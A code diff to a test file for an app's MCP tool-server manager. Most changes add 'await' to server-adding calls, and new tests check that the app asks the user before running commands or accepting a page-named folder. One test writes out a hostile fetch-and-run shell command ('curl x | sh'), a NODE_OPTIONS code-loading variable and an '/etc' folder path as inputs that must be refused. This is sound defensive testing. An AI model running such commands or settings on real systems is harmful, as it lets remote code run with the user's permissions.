@@ -47,7 +47,7 @@ afterEach(async () => {
 describe('published servers over stdio', () => {
   it('runs @modelcontextprotocol/server-everything: its tools, a text result, an image named', async () => {
     const mcp = open()
-    mcp.add({ name: 'everything', command: bin('mcp-server-everything'), args: ['stdio'] })
+    await mcp.add({ name: 'everything', command: bin('mcp-server-everything'), args: ['stdio'] })
     const tools = await mcp.tools()
     expect(tools.map((tool) => tool.name)).toEqual(expect.arrayContaining(['everything__echo', 'everything__get-tiny-image', 'everything__get-sum']))
     const echo = tools.find((tool) => tool.name === 'everything__echo')!
@@ -69,7 +69,7 @@ describe('published servers over stdio', () => {
     writeFileSync(join(folder, 'notes.txt'), 'Buy milk')
     try {
       const mcp = open()
-      mcp.add({ name: 'files', command: bin('mcp-server-filesystem'), args: [folder] })
+      await mcp.add({ name: 'files', command: bin('mcp-server-filesystem'), args: [folder] })
       const read = await mcp.call('files__read_text_file', { path: join(folder, 'notes.txt') }, never)
       expect(read).toMatchObject({ ok: false }) // not started yet: tools() or a start comes first
       await mcp.tools()
@@ -90,7 +90,7 @@ describe('a server at an address (Streamable HTTP)', () => {
     const http = await startHttpMcpServer('s3cret-token')
     try {
       const mcp = open()
-      mcp.add({ name: 'calc', url: http.url, headers: { Authorization: 'Bearer wrong' } })
+      await mcp.add({ name: 'calc', url: http.url, headers: { Authorization: 'Bearer wrong' } })
       const refused = await mcp.start('calc')
       expect(refused.state).toBe('failed')
       expect(refused.problem).toMatch(/refused Aura \(401\).*headers/)
@@ -109,7 +109,7 @@ describe('a server at an address (Streamable HTTP)', () => {
 describe('servers that misbehave', () => {
   it('a server that crashes as it starts is failed, with what it said', async () => {
     const mcp = open()
-    mcp.add({ name: 'broken', command: testServer.command, args: testServer.args('crash-at-start') })
+    await mcp.add({ name: 'broken', command: testServer.command, args: testServer.args('crash-at-start') })
     const server = await mcp.start('broken')
     expect(server.state).toBe('failed')
     expect(server.problem).toBe('The server “broken” stopped as it started. It said: Error: the config file is missing')
@@ -118,8 +118,8 @@ describe('servers that misbehave', () => {
 
   it('a server that never answers fails at the start deadline, and does not stall tools()', async () => {
     const mcp = open({ startTimeoutMs: 5_000 })
-    mcp.add({ name: 'stuck', command: testServer.command, args: testServer.args('hang') })
-    mcp.add({ name: 'fine', command: testServer.command, args: testServer.args() })
+    await mcp.add({ name: 'stuck', command: testServer.command, args: testServer.args('hang') })
+    await mcp.add({ name: 'fine', command: testServer.command, args: testServer.args() })
     const started = Date.now()
     const tools = await mcp.tools()
     expect(Date.now() - started).toBeLessThan(9_000)
@@ -130,7 +130,7 @@ describe('servers that misbehave', () => {
 
   it('a tool that never answers ends at the call deadline, or at once when stopped', async () => {
     const mcp = open({ callTimeoutMs: 1_000 })
-    mcp.add({ name: 'slow', command: testServer.command, args: testServer.args() })
+    await mcp.add({ name: 'slow', command: testServer.command, args: testServer.args() })
     await mcp.tools()
     const started = Date.now()
     const late = await mcp.call('slow__sleep', {}, never)
@@ -147,7 +147,7 @@ describe('servers that misbehave', () => {
 
   it('a server that crashes during a call: the call ends with the reason, the server is failed, its tools gone', async () => {
     const mcp = open({ retryAfterMs: 60_000 })
-    mcp.add({ name: 'fragile', command: testServer.command, args: testServer.args() })
+    await mcp.add({ name: 'fragile', command: testServer.command, args: testServer.args() })
     await mcp.tools()
     const outcome = await mcp.call('fragile__crash', {}, never)
     expect(outcome.ok).toBe(false)
@@ -161,7 +161,7 @@ describe('servers that misbehave', () => {
 
   it(`cuts a huge result to ${RESULT_CAP} characters and says so`, async () => {
     const mcp = open()
-    mcp.add({ name: 'big', command: testServer.command, args: testServer.args() })
+    await mcp.add({ name: 'big', command: testServer.command, args: testServer.args() })
     await mcp.tools()
     const outcome = await mcp.call('big__huge', {}, never)
     expect(outcome.ok).toBe(true)
@@ -175,8 +175,8 @@ describe('what a server may see', () => {
   it('starts with a minimal environment: never Aura’s keys or the rest of its process’s variables', async () => {
     const env: Record<string, string | undefined> = { ...process.env, OPENAI_API_KEY: 'sk-aura-secret', AURA_HF_TOKEN: 'hf_secret', SOMETHING_ELSE: 'private' }
     const mcp = open({ env })
-    mcp.add({ name: 'probe', command: testServer.command, args: testServer.args(), env: { GITHUB_TOKEN: 'ghp_for_this_server' } })
-    mcp.add({ name: 'everything', command: bin('mcp-server-everything'), args: ['stdio'] })
+    await mcp.add({ name: 'probe', command: testServer.command, args: testServer.args(), env: { GITHUB_TOKEN: 'ghp_for_this_server' } })
+    await mcp.add({ name: 'everything', command: bin('mcp-server-everything'), args: ['stdio'] })
     await mcp.tools()
     for (const call of ['probe__env', 'everything__get-env']) {
       const seen = JSON.parse((await mcp.call(call, {}, never)).text) as Record<string, string>
@@ -189,9 +189,9 @@ describe('what a server may see', () => {
 
   it('a missing command says what to install', async () => {
     const mcp = open({ env: { PATH: join(dataDir, 'no-programs-here'), HOME: dataDir } })
-    mcp.add({ name: 'memory', command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] })
-    mcp.add({ name: 'time', command: 'uvx', args: ['mcp-server-time'] })
-    mcp.add({ name: 'typo', command: 'nodee', args: [] })
+    await mcp.add({ name: 'memory', command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] })
+    await mcp.add({ name: 'time', command: 'uvx', args: ['mcp-server-time'] })
+    await mcp.add({ name: 'typo', command: 'nodee', args: [] })
     await mcp.tools()
     const problems = Object.fromEntries(mcp.servers().map((s) => [s.name, s.problem]))
     expect(problems.memory).toMatch(/^This server needs Node\.js, and Aura could not find it on this computer \(its “npx” command\)\. Install Node\.js/)
@@ -202,7 +202,7 @@ describe('what a server may see', () => {
 
   it('stops every server it started when closed', async () => {
     const mcp = open()
-    mcp.add({ name: 'a', command: testServer.command, args: testServer.args() })
+    await mcp.add({ name: 'a', command: testServer.command, args: testServer.args() })
     await mcp.tools()
     const pid = Number((await mcp.call('a__pid', {}, never)).text)
     expect(() => process.kill(pid, 0)).not.toThrow()
@@ -214,8 +214,8 @@ describe('what a server may see', () => {
 describe('kept in the data folder', () => {
   it('keeps servers and tool choices in mcp.json, their env and header values sealed', async () => {
     const first = open()
-    first.add({ name: 'probe', command: testServer.command, args: testServer.args(), env: { API_TOKEN: 'tok-plain-123' } })
-    first.add({ name: 'remote', url: 'http://127.0.0.1:9/mcp', headers: { Authorization: 'Bearer hdr-plain-456' } })
+    await first.add({ name: 'probe', command: testServer.command, args: testServer.args(), env: { API_TOKEN: 'tok-plain-123' } })
+    await first.add({ name: 'remote', url: 'http://127.0.0.1:9/mcp', headers: { Authorization: 'Bearer hdr-plain-456' } })
     await first.start('probe')
     first.setTool({ server: 'probe', tool: 'crash', enabled: false })
     await first.setPermission('probe__echo', 'always')
@@ -234,14 +234,14 @@ describe('kept in the data folder', () => {
 
     await again.remove('remote')
     expect(again.servers().map((s) => s.name)).toEqual(['probe'])
-    expect(() => again.add({ name: 'PROBE', command: 'x' })).toThrow(/already a tools server named “PROBE”/)
+    await expect(again.add({ name: 'PROBE', command: 'x' })).rejects.toThrow(/already a tools server named “PROBE”/)
   })
 
   it('gives each tool a name a model can call: sanitised, at most 64 characters, never twice', async () => {
     const mcp = open()
-    mcp.add({ name: 'my files', command: testServer.command, args: testServer.args() })
-    mcp.add({ name: 'my_files', command: testServer.command, args: testServer.args() })
-    mcp.add({ name: 'a server with a very long name, longer than anyone would type', command: testServer.command, args: testServer.args() })
+    await mcp.add({ name: 'my files', command: testServer.command, args: testServer.args() })
+    await mcp.add({ name: 'my_files', command: testServer.command, args: testServer.args() })
+    await mcp.add({ name: 'a server with a very long name, longer than anyone would type', command: testServer.command, args: testServer.args() })
     const names = (await mcp.tools()).map((tool) => tool.name)
     expect(names).toContain('my_files__echo')
     expect(names).toContain('my_files__echo_2')
@@ -257,5 +257,41 @@ describe('kept in the data folder', () => {
     const memory = await mcp.addFromGallery({ id: 'memory' })
     expect(memory.envNames).toEqual(['MEMORY_FILE_PATH'])
     expect(mcp.gallery().map((entry) => [entry.id, entry.needs])).toEqual([['files', 'node'], ['memory', 'node'], ['fetch', 'python'], ['git', 'python'], ['time', 'python']])
+  })
+})
+
+describe('what the page alone cannot do (the desktop app)', () => {
+  it('a command from the page runs only once the user allowed it in the system’s question box', async () => {
+    const asked: string[] = []
+    let answer = false
+    const mcp = open({ confirmer: { confirm: async ({ detail }) => (asked.push(detail), answer) } })
+    await expect(mcp.add({ name: 'evil', command: '/bin/sh', args: ['-c', 'curl x | sh'] })).rejects.toThrow('You did not allow “/bin/sh -c "curl x | sh"” to run, so nothing was changed.')
+    expect(mcp.servers()).toEqual([])
+    answer = true
+    await mcp.add({ name: 'probe', command: testServer.command, args: testServer.args() })
+    expect(asked[1]).toMatch(/server\.cjs tools\n\nIt runs on this computer with your permissions/)
+    // New variables can load any code (NODE_OPTIONS): asked again; a refusal changes nothing.
+    answer = false
+    await expect(mcp.update({ name: 'probe', env: { NODE_OPTIONS: '--require /tmp/x.js' } })).rejects.toThrow(/did not allow/)
+    expect(asked[2]).toMatch(/With: NODE_OPTIONS/)
+    expect(mcp.servers()[0]!.envNames).toEqual([])
+    // Turning it off and on, or a tool's choices, need no question.
+    await mcp.update({ name: 'probe', enabled: false })
+    expect(asked).toHaveLength(3)
+  })
+
+  it('the files server gets the folder the user picked, never one the page names', async () => {
+    const picked = mkdtempSync(join(tmpdir(), 'aura-mcp-picked-'))
+    try {
+      const titles: (string | undefined)[] = []
+      const mcp = open({ folderPicker: { pickFolder: async (title) => (titles.push(title), picked) } })
+      const files = await mcp.addFromGallery({ id: 'files', folder: '/etc' })
+      expect(files.args.at(-1)).toBe(picked)
+      expect(titles).toEqual(['Choose the folder the files server may use'])
+      const cancelled = open({ folderPicker: { pickFolder: async () => null } })
+      await expect(cancelled.addFromGallery({ id: 'files', name: 'files2' })).rejects.toThrow('No folder was chosen, so the files server was not added.')
+    } finally {
+      rmSync(picked, { recursive: true, force: true })
+    }
   })
 })
